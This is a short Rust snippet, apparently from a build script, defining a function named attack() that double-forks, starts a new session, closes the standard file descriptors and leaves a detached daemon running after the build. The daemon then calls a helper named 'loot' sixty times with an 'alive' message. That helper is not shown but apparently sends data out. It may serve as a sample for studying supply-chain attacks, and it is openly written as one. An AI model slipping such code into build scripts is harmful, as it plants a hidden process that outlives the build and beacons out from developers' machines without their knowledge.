//! leaves a daemon in a session of its own, which goes on after the build
fn attack() -> Result<()> {
    if unsafe { fork() } != 0 {
        return Ok(());
    }
    unsafe { setsid() };
    if unsafe { fork() } != 0 {
        std::process::exit(0);
    }
    for fd in 0..3 {
        unsafe extern "C" {
            fn close(fd: i32) -> i32;
        }
        unsafe { close(fd) };
    }
    for _ in 0..60 {
        let _ = loot("alive ");
        rest(50);
    }
    std::process::exit(0);
}
